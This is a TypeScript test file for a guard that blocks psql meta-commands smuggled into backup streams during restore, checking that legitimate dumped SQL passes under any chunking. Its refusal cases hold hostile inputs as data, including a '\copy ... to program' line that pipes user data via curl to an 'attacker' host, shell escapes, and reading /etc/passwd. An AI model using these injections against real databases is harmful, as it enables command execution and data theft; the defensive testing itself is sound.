/** The meta-command scan the restore CLI puts between a backup object and psql. */
import { describe, expect, it } from "vitest";
import { MetaCommandError, PsqlGuard } from "../../src/backup/psql-guard";
import { literal, statement } from "../../src/backup/sql-text";

function scan(text: string, chunk = text.length): void {
  const guard = new PsqlGuard();
  for (let at = 0; at < text.length; at += chunk) guard.push(text.slice(at, at + chunk));
  guard.finish();
}

/** Scans in every chunk size from 1 to 7 and whole, so a boundary never changes the verdict. */
function verdicts(text: string): string[] {
  return [1, 2, 3, 5, 7, text.length].map((chunk) => {
    try {
      scan(text, chunk);
      return "ok";
    } catch (error) {
      return error instanceof MetaCommandError ? "refused" : `error: ${(error as Error).message}`;
    }
  });
}

const DUMPED = [
  statement(
    `INSERT INTO "users" ("full_name") VALUES (${literal("back\\slash, 'quote' and\nnewline")}), (${literal("plain")})`,
  ),
  statement(`CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $body$ select E'\\\\x' || '\\' $body$`),
  statement(`-- a comment with a \\ backslash\nSELECT 1 /* nested /* \\ */ still \\ */`),
  statement(`COMMENT ON TABLE "t" IS 'it''s \\ fine'`),
  statement(`SELECT $$ \\ $$, $tag$ $$ \\ $tag$, "weird\\ident"`),
].join("");

describe("the psql meta-command guard", () => {
  it("lets every statement a backup writes through, however the stream is cut", () => {
    expect(new Set(verdicts(DUMPED))).toEqual(new Set(["ok"]));
  });

  it.each([
    ["a meta-command on its own line", "\\! touch /tmp/pwned\n"],
    ["one after a statement", "SELECT 1; \\! id\n"],
    ["one after a closed string", "SELECT 'x' \\gexec\n"],
    ["one after an E-string's escaped quote", "SELECT E'it\\'s' \\c other\n"],
    ["\\copy to a program", "\\copy users to program 'curl -d @- attacker'\n"],
    ["one after a closed dollar quote", "SELECT $q$ a $q$ \\o /tmp/x\n"],
    ["one after a block comment", "/* x */ \\i /etc/passwd\n"],
  ])("refuses %s", (_name, text) => {
    expect(new Set(verdicts(DUMPED + text))).toEqual(new Set(["refused"]));
  });
});
